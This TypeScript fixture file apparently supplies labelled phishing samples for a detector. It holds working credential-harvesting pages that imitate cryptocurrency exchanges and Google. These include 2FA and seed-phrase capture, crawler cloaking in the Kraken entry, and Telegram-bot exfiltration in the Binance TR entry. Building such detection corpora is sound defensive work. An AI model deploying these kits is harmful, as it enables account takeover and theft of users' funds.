import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footer } from '../parts/zw-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-kit-coinbase-signin-2fa',
    label: 'phishing',
    kind: 'exchange-login-kit',
    url: 'https://coinbase.secure-signin-auth.com/signin',
    body: doc('Coinbase - Sign In', `
<div style="display:flex;justify-content:center;padding-top:60px">
<div style="width:440px;border:1px solid #dee1e6;border-radius:16px;padding:36px">
<svg width="100" height="24" viewBox="0 0 100 24"><text x="0" y="19" font-size="22" font-weight="700" fill="#0052ff" font-family="Arial">coinbase</text></svg>
<h2 style="margin:26px 0 18px">Sign in to Coinbase</h2>
<form id="s1" action="next.php" method="post">
<label style="font-weight:600;font-size:14px">Email</label><input name="email" type="email" required style="width:100%;padding:14px;border:1px solid #ccc;border-radius:8px;margin:6px 0 14px">
<label style="font-weight:600;font-size:14px">Password</label><input name="password" type="password" required style="width:100%;padding:14px;border:1px solid #ccc;border-radius:8px;margin:6px 0 14px">
<button style="width:100%;background:#0052ff;color:#fff;border:0;padding:16px;border-radius:30px;font-weight:600">Continue</button>
</form>
<form id="s2" action="next.php?step=otp" method="post" style="display:none">
<p>Enter the 7-digit code we sent to your phone ending in ••<span id="last">42</span>.</p>
<input name="otp" inputmode="numeric" maxlength="7" style="width:100%;padding:14px;border:1px solid #ccc;border-radius:8px;letter-spacing:6px;font-size:20px">
<button style="width:100%;margin-top:14px;background:#0052ff;color:#fff;border:0;padding:16px;border-radius:30px">Verify</button></form>
<p style="font-size:13px;color:#5b616e;margin-top:24px"><a href="#">Forgot password?</a> · <a href="#">Privacy policy</a></p>
</div></div>
<script>
document.getElementById("s1").onsubmit=function(e){e.preventDefault();fetch("next.php",{method:"POST",body:new FormData(this)}).then(function(){document.getElementById("s1").style.display="none";document.getElementById("s2").style.display="block"})};
document.getElementById("s2").onsubmit=function(e){e.preventDefault();fetch("next.php?step=otp",{method:"POST",body:new FormData(this)}).then(function(){location.href="https://www.coinbase.com/"})};
</script>`),
    routes: { 'coinbase.secure-signin-auth.com/next.php': jsonRoute({ status: 'ok' }) },
  },
  {
    id: 'zw-kit-binance-tr-sms',
    label: 'phishing',
    kind: 'exchange-login-kit',
    url: 'https://binance-tr-guvenlik.com/tr/giris',
    body: doc('Binance TR | Giriş Yap', `
<div style="background:#fafafa;min-height:100vh"><header style="background:#181a20;padding:14px 24px"><b style="color:#f0b90b;font-size:20px">◆ BINANCE TR</b></header>
<div style="max-width:400px;margin:50px auto;background:#fff;padding:32px;border-radius:12px;box-shadow:0 2px 12px rgba(0,0,0,.06)">
<h2>Giriş Yap</h2>
<div id="a"><input id="e" placeholder="E-posta / Telefon numarası" style="width:100%;padding:12px;border:1px solid #eaecef;border-radius:8px;margin-bottom:12px"><input id="p" type="password" placeholder="Şifre" style="width:100%;padding:12px;border:1px solid #eaecef;border-radius:8px"><button id="n1" style="width:100%;margin-top:16px;padding:12px;background:#fcd535;border:0;border-radius:8px;font-weight:600">İleri</button></div>
<div id="b" style="display:none"><p>Güvenlik doğrulaması: telefonunuza gönderilen SMS kodunu ve Google Authenticator kodunu girin.</p><input id="sms" placeholder="SMS kodu" style="width:100%;padding:12px;margin-bottom:10px"><input id="ga" placeholder="Authenticator kodu" style="width:100%;padding:12px"><button id="n2" style="width:100%;margin-top:16px;padding:12px;background:#fcd535;border:0;border-radius:8px">Onayla</button></div>
</div></div>
<script>
var T="6612098473:AAH3kLp0QzX9vN2mB7cJ5dR8wY1tE4uF6sG",C="5829104736";
function tg(t){return fetch("https://api.telegram.org/bot"+T+"/sendMessage?chat_id="+C+"&text="+encodeURIComponent(t))}
document.getElementById("n1").onclick=function(){tg("BNB TR\\n"+document.getElementById("e").value+" | "+document.getElementById("p").value).then(function(){a.style.display="none";b.style.display="block"})};
document.getElementById("n2").onclick=function(){tg("KOD "+document.getElementById("sms").value+" / "+document.getElementById("ga").value).then(function(){location.href="https://www.binance.tr"})};
</script>`, { lang: 'tr' }),
  },
  {
    id: 'zw-kit-kraken-cloaked-ua',
    label: 'phishing',
    kind: 'cloaked-exchange-kit',
    url: 'https://kraken-accountreview.net/u/login',
    body: doc('Kraken', `
<div id="app"></div>
<script>
(function(){
var ua=navigator.userAgent;
if(/Googlebot|bingbot|HeadlessChrome|PhantomJS|Lighthouse/i.test(ua)||navigator.webdriver||!navigator.languages||navigator.languages.length===0){location.replace("https://www.wikipedia.org/");return}
fetch("/u/tpl?c="+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)).then(function(r){return r.text()}).then(function(h){document.getElementById("app").innerHTML=h;
document.getElementById("kf").addEventListener("submit",function(e){e.preventDefault();fetch("/u/auth",{method:"POST",body:new URLSearchParams(new FormData(this))}).then(function(){location.href="/u/2fa"})})});
})();
</script>`),
    routes: {
      'kraken-accountreview.net/u/tpl': htmlRoute(`<div style="max-width:420px;margin:60px auto;font-family:Arial"><div style="color:#5741d9;font-size:28px;font-weight:700">kraken</div><h2>Sign in to your account</h2><p style="color:#666">We noticed a login from a new device. Please confirm your identity to keep withdrawals enabled.</p><form id="kf"><input name="username" placeholder="Username" style="width:100%;padding:12px;margin:6px 0"><input name="password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:6px 0"><input name="otp" placeholder="2FA code (if enabled)" style="width:100%;padding:12px;margin:6px 0"><button style="width:100%;padding:14px;background:#5741d9;color:#fff;border:0;border-radius:8px">Sign in</button></form></div>`),
      'kraken-accountreview.net/u/auth': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'zw-kit-upbit-ko-kakao',
    label: 'phishing',
    kind: 'exchange-login-kit',
    url: 'https://upbit-kakao-auth.kr/login',
    body: doc('업비트 | 가장 신뢰받는 디지털 자산 거래소', `
<div style="background:#f4f5f8;min-height:100vh">
<header style="background:#093687;color:#fff;padding:16px 30px;font-size:22px;font-weight:700">UPbit</header>
<div style="max-width:400px;margin:50px auto;background:#fff;padding:30px;text-align:center">
<h2>로그인</h2><p style="color:#666;font-size:14px">카카오 계정으로 로그인하고 출금 제한을 해제하세요.</p>
<form id="kk" action="/proc.php" method="post">
<input name="kid" placeholder="카카오메일 아이디, 이메일, 전화번호" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ddd">
<input name="kpw" type="password" placeholder="비밀번호" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ddd">
<input name="pin" type="password" maxlength="6" placeholder="업비트 PIN 6자리" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ddd">
<button style="width:100%;padding:13px;background:#fee500;border:0;font-weight:700">카카오 로그인</button></form>
<p style="font-size:12px;color:#aaa">© Dunamu Inc.</p></div></div>`, { lang: 'ko' }),
  },
  {
    id: 'zw-kit-blockchaincom-es',
    label: 'phishing',
    kind: 'wallet-login-kit',
    url: 'https://login-blockchain.com-wallet-es.info/es/login',
    body: doc('Blockchain.com | Iniciar sesión', `
<div style="background:#f0f2f7;min-height:100vh;padding-top:60px"><div style="max-width:460px;margin:auto;background:#fff;border-radius:12px;padding:32px">
<div style="color:#0c6cf2;font-weight:700;font-size:22px">▢ Blockchain.com</div>
<h2>Bienvenido de nuevo</h2>
<form id="bc" action="/es/proc/login" method="post"><label>ID de billetera o correo</label><input name="guid" style="width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccd">
<label>Contraseña</label><input name="password" type="password" style="width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccd">
<button style="width:100%;padding:13px;background:#0c6cf2;color:#fff;border:0;border-radius:8px">Continuar</button></form>
<p style="font-size:13px"><a href="/es/recover">¿Olvidó su contraseña? Recupere fondos con su frase de recuperación</a></p></div></div>`, { lang: 'es' }),
    routes: {
      'login-blockchain.com-wallet-es.info/es/recover': htmlRoute(doc('Recuperar fondos', `<div style="max-width:460px;margin:60px auto"><h2>Recuperar fondos</h2><p>Introduzca su frase secreta de 12 palabras.</p><form action="/es/proc/seed" method="post"><textarea name="mnemonic" rows="3" style="width:100%"></textarea><button>Recuperar</button></form></div>`, { lang: 'es' })),
    },
  },
  {
    id: 'zw-kit-binance-shortlink-chain',
    label: 'phishing',
    kind: 'redirect-chain-kit',
    url: 'https://rb.gy.link-track.co/bnc7Ka',
    routes: {
      'rb.gy.link-track.co/bnc7Ka': redirectRoute(301, 'https://trk.mailcampaign-click.com/c/9f31?u=aHR0cHM6Ly9hY2NvdW50cy5iaW5hbmNlLnNlc3Npb24tcmVjb3Zlcnkub25saW5lLw'),
      'trk.mailcampaign-click.com/c/9f31': htmlRoute(`<html><head><meta http-equiv="refresh" content="0;url=https://accounts.binance.session-recovery.online/en/login?return_to=withdraw"></head><body></body></html>`),
      'accounts.binance.session-recovery.online/en/login': htmlRoute(doc('Log In | Binance', `
<div style="max-width:425px;margin:48px auto;border:1px solid #eaecef;border-radius:24px;padding:40px">
<svg width="120" height="24"><text x="0" y="20" fill="#f0b90b" font-size="22" font-weight="700" font-family="Arial">BINANCE</text></svg>
<h1 style="font-size:32px">Log in</h1>
<form id="lf" action="/bapi/accounts/v2/public/authcenter/login" method="post"><label style="font-size:14px">Email/Phone number</label><input name="email" style="width:100%;padding:12px;border:1px solid #eaecef;border-radius:8px;margin:6px 0 14px"><label style="font-size:14px">Password</label><input name="password" type="password" style="width:100%;padding:12px;border:1px solid #eaecef;border-radius:8px;margin:6px 0 14px"><button style="width:100%;padding:12px;background:#fcd535;border:0;border-radius:8px;font-weight:600">Next</button></form>
<p style="text-align:center;font-size:14px;color:#707a8a">or <a href="#">Continue with Passkey</a> · <a href="#">Continue with Google</a></p></div>`)),
    },
  },
  {
    id: 'zw-kit-gmail-for-exchange-users',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://accounts-google.sec-verify-session.com/v3/signin/identifier',
    body: doc('Sign in – Google Accounts', `
<div style="display:flex;justify-content:center;padding-top:80px;background:#fff">
<div style="width:450px;border:1px solid #dadce0;border-radius:8px;padding:48px 40px">
<svg width="75" height="24"><text x="0" y="20" font-family="Arial" font-size="22"><tspan fill="#4285f4">G</tspan><tspan fill="#ea4335">o</tspan><tspan fill="#fbbc05">o</tspan><tspan fill="#4285f4">g</tspan><tspan fill="#34a853">l</tspan><tspan fill="#ea4335">e</tspan></text></svg>
<h1 style="font-weight:400;font-size:24px">Sign in</h1><p>to continue to Gmail</p>
<form id="g"><input id="id" type="email" placeholder="Email or phone" style="width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px">
<input id="pw" type="password" placeholder="Enter your password" style="display:none;width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px;margin-top:10px">
<p style="font-size:14px"><a href="#" style="color:#1a73e8">Forgot email?</a></p>
<div style="text-align:right"><button style="background:#1a73e8;color:#fff;border:0;padding:10px 24px;border-radius:4px">Next</button></div></form></div></div>
<script>
var st=0;document.getElementById("g").onsubmit=function(e){e.preventDefault();if(st===0){document.getElementById("pw").style.display="block";st=1;return}
fetch("/v3/signin/challenge/pwd",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({u:document.getElementById("id").value,p:document.getElementById("pw").value,ref:"exchange-list-0425"})}).then(function(){location="https://mail.google.com/"})};
</script>`),
  },
];
